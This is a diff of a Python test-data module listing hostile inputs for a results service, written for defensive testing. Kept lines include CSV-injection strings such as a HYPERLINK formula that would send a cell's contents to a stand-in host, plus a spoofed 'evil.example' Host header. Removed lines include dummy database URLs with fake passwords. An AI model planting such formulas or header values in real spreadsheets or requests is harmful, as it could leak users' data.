@@ -1,22 +1,16 @@
-"""Hostile input for the results service, shared by tests/server/hostile/ and
-benchmarks/hostile_service.py.
-
-Pure data: no process is started and nothing is sent here (harness.py does that, against a
-real `flashmark serve` on SQLite and on PostgreSQL). Every case has an id, the same on both
-engines, so a failure is replayed with `python benchmarks/hostile_service.py --only ID`.
+"""Hostile input for the results service, as data: no process is started and nothing is sent
+here. Every case has an id (its pytest id), so a failure is replayed with `-k ID`.
 
     Upload    one body POSTed with a valid token: refused (a 4xx problem naming the field
               by JSON pointer, nothing stored) or kept (201, then shown everywhere)
     Request   one request with a hostile target, query or header: answered below 500
-    Scenario  a sequence the harness runs by name (auth, framing, CSV, storage, processes,
-              secrets, bounded pages)
 """
 
 from __future__ import annotations
 
 import json
 import re
-from dataclasses import dataclass, field
+from dataclasses import dataclass
 from functools import cache
 from typing import Any
 
@@ -26,17 +20,8 @@ NUMBERS = "numbers"
 UNICODE = "unicode and controls"
 SIZES = "sizes and lengths"
 SHAPES = "unknown keys, wrong types"
-AUTH = "auth and bad tokens"
 HEADERS = "HTTP headers"
-CSV = "CSV injection"
-STORAGE = "storage faults"
-PROCESSES = "processes"
-SECRETS = "secrets in output"
 CAMPAIGNS = "campaign names and labels"
-CATEGORIES = (
-    NUMBERS, UNICODE, SIZES, SHAPES, AUTH, HEADERS, CSV, STORAGE, PROCESSES, SECRETS, CAMPAIGNS,
-)  # fmt: skip
-ENGINES = ("sqlite", "postgres")
 # The service's default --max-upload-bytes
 MAX_UPLOAD_BYTES = 4 * 1024 * 1024
 _MARKER = '"__HOSTILE__"'
@@ -78,19 +63,7 @@ class Request:
         return f"{_slug(self.category)}-{self.name}"
 
 
-@dataclass(frozen=True)
-class Scenario:
-    category: str
-    name: str
-    engines: tuple[str, ...] = ENGINES
-    options: tuple[tuple[str, Any], ...] = field(default=())
-
-    @property
-    def id(self) -> str:
-        return f"{_slug(self.category)}-{self.name}"
-
-
-Case = Upload | Request | Scenario
+Case = Upload | Request
 
 
 @cache
@@ -239,11 +212,6 @@ def size_cases() -> list[Case]:
         _invalid_json(SIZES, "nested-100000", b"[" * 100_000 + b"]" * 100_000),
         _kept(SIZES, "text-4096", HOSTNAME, json.dumps("h" * 4096), 48),
         _kept(SIZES, "maker-4096", MAKER, json.dumps("M" * 4096), 49),
-        Scenario(SIZES, "chunked-over-limit"),
-        Scenario(SIZES, "content-length-not-a-number"),
-        Scenario(SIZES, "pages-stay-bounded"),
-        Scenario(SIZES, "a-long-series-draws-a-bounded-page"),
-        Scenario(SIZES, "every-read-answers"),
     ]
 
 
@@ -321,19 +289,6 @@ def shape_cases() -> list[Case]:
     ]
 
 
-def auth_cases() -> list[Case]:
-    return [
-        Scenario(AUTH, "missing-token"),
-        Scenario(AUTH, "wrong-token"),
-        Scenario(AUTH, "basic-scheme"),
-        Scenario(AUTH, "sql-in-token"),
-        Scenario(AUTH, "token-10k"),
-        Scenario(AUTH, "revoked-token"),
-        Scenario(AUTH, "bad-tokens-are-slowed"),
-        Scenario(AUTH, "missing-tokens-are-not-counted"),
-    ]
-
-
 def header_cases() -> list[Case]:
     evil = (("Host", "evil.example"),)
     return [
@@ -377,10 +332,6 @@ def header_cases() -> list[Case]:
             statuses=frozenset({200}),
             never_in_answer="evil",
         ),
-        Scenario(HEADERS, "host-evil-upload-stores-nothing"),
-        Scenario(HEADERS, "no-host-header"),
-        Scenario(HEADERS, "trusted-host-links"),
-        Scenario(HEADERS, "every-answer-refuses-framing"),
     ]
 
 
@@ -403,66 +354,6 @@ CSV_TEXTS = (
     "\uff1d1+1",
     '=HYPERLINK("http://x.invalid/?"&A1,"x")',
 )
-
-
-def csv_cases() -> list[Case]:
-    return [
-        *(
-            Scenario(CSV, f"text-{index}", options=(("text", text),))
-            for index, text in enumerate(CSV_TEXTS)
-        ),
-        Scenario(CSV, "local-export"),
-    ]
-
-
-def storage_cases() -> list[Case]:
-    return [
-        Scenario(STORAGE, "folder-removed-then-restored", ("sqlite",)),
-        Scenario(STORAGE, "file-replaced-by-garbage", ("sqlite",)),
-        Scenario(STORAGE, "file-replaced-by-a-copy", ("sqlite",)),
-        Scenario(STORAGE, "file-removed-reads", ("sqlite",)),
-        Scenario(STORAGE, "server-restarted", ("postgres",)),
-        Scenario(STORAGE, "connections-terminated", ("postgres",)),
-        Scenario(STORAGE, "database-dropped-reads", ("postgres",)),
-        Scenario(STORAGE, "server-restarted-during-uploads", ("postgres",)),
-    ]
-
-
-def process_cases() -> list[Case]:
-    return [
-        Scenario(PROCESSES, "sigkill-leaves-nothing", ("sqlite",)),
-        Scenario(PROCESSES, "second-service-refused", ("sqlite",)),
-        Scenario(PROCESSES, "workers-end-with-killed-parent", ("postgres",)),
-        Scenario(PROCESSES, "restart-after-killed-parent", ("postgres",)),
-        Scenario(PROCESSES, "second-service-beside-workers-refused", ("postgres",)),
-        Scenario(PROCESSES, "sigterm-stops-workers", ("postgres",)),
-    ]
-
-
-# --database values with a password nothing listens for (port 1; a socket folder that is not
-# there), each with its own password so that every form is looked for in the output.
-UNREACHABLE = (
-    ("url", "postgresql://u:S3cretPW1@127.0.0.1:1/db", ("S3cretPW1",)),
-    ("postgres-scheme", "postgres://u:S3cretPW2@127.0.0.1:1/db", ("S3cretPW2",)),
-    ("percent-encoded", "postgresql://u:S3cr%40tPW3@127.0.0.1:1/db", ("S3cr%40tPW3", "S3cr@tPW3")),
-    ("query", "postgresql://u@127.0.0.1:1/db?password=S3cretPW4", ("S3cretPW4",)),
-    ("conninfo", "host=127.0.0.1 port=1 user=u password=S3cretPW5 dbname=db", ("S3cretPW5",)),
-    ("conninfo-quoted", "host=/nowhere port=1 password='S3cret PW6' dbname=db", ("S3cret PW6",)),
-    ("conninfo-malformed", "host=127.0.0.1 password S3cretPW7", ("S3cretPW7",)),
-)
-
-
-def secret_cases() -> list[Case]:
-    return [
-        *(
-            Scenario(
-                SECRETS, f"unreachable-{name}", options=(("database", url), ("secrets", forms))
-            )
-            for name, url, forms in UNREACHABLE
-        ),
-        Scenario(SECRETS, "token-never-logged"),
-        Scenario(SECRETS, "live-password-url", ("postgres",)),
-    ]
 
 
 def in_campaign(index: int, campaign: Any = "hostile", label: Any = "board-1") -> dict[str, Any]:
@@ -554,31 +445,25 @@ def campaign_cases() -> list[Case]:
         Request(
             CAMPAIGNS, "post-to-campaign", "POST", "/api/v1/campaigns/x", statuses=frozenset({405})
         ),
-        Scenario(CAMPAIGNS, "campaign-job-differs"),
-        Scenario(CAMPAIGNS, "campaign-of-another-token"),
-        Scenario(CAMPAIGNS, "hostile-texts-on-a-campaign-page"),
     ]
 
 
-def all_cases() -> dict[str, list[Case]]:
-    return {
-        NUMBERS: number_cases(),
-        UNICODE: unicode_cases(),
-        SIZES: size_cases(),
-        SHAPES: shape_cases(),
-        AUTH: auth_cases(),
-        HEADERS: header_cases(),
-        CSV: csv_cases(),
-        STORAGE: storage_cases(),
-        PROCESSES: process_cases(),
-        SECRETS: secret_cases(),
-        CAMPAIGNS: campaign_cases(),
-    }
+def uploads() -> list[Upload]:
+    """Every upload case."""
+    return [case for case in _all() if isinstance(case, Upload)]
 
 
-def engines_of(case: Case) -> tuple[str, ...]:
-    return case.engines if isinstance(case, Scenario) else ENGINES
+def requests() -> list[Request]:
+    """Every request case."""
+    return [case for case in _all() if isinstance(case, Request)]
 
 
-def cases_for(engine: str) -> list[Case]:
-    return [case for cases in all_cases().values() for case in cases if engine in engines_of(case)]
+def _all() -> list[Case]:
+    return [
+        *number_cases(),
+        *unicode_cases(),
+        *size_cases(),
+        *shape_cases(),
+        *header_cases(),
+        *campaign_cases(),
+    ]
